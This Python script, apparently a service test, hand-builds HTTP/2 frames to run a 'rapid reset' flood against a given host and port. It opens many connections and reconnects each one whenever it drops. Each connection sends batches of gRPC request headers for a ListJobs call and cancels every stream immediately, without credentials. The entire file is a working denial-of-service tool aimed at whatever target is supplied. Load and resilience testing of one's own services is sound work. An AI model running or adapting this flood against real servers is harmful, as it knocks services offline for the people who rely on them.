"""Opens and resets calls on a port as fast as it takes them, without a credential, until its input ends: HTTP/2 by
hand, because no client would.

    python -m tests.services.rapid_resets HOST PORT CONNECTIONS
"""

from __future__ import annotations

import contextlib
import socket
import struct
import sys
import threading

CALLS_AT_ONCE = 200
_HEADERS, _RESET, _SETTINGS = 1, 3, 4
_END_OF_HEADERS, _CANCEL = 4, 8


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


CALL = b"".join(
    _literal(name, value)
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/snapline.v1.ClientService/ListJobs"),
        (b":authority", b"x"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
)


def attack(host: str, port: int) -> None:
    """Use one connection for as long as it lasts."""
    with contextlib.suppress(OSError), socket.create_connection((host, port)) as connection:
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0))
        threading.Thread(target=_drain, args=(connection,), daemon=True).start()
        for first in range(1, 1 << 30, 2 * CALLS_AT_ONCE):
            calls = bytearray()
            for stream in range(first, first + 2 * CALLS_AT_ONCE, 2):
                calls += _frame(_HEADERS, _END_OF_HEADERS, stream, CALL)
                calls += _frame(_RESET, 0, stream, struct.pack(">I", _CANCEL))
            connection.sendall(calls)


def _drain(connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while connection.recv(1 << 16):
            pass


def main() -> None:
    """Attack with so many connections, each of which begins again when it is lost."""
    host, port, connections = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])

    def go_on() -> None:
        while True:
            attack(host, port)

    for _ in range(connections):
        threading.Thread(target=go_on, daemon=True).start()
    sys.stdin.read()


if __name__ == "__main__":
    main()
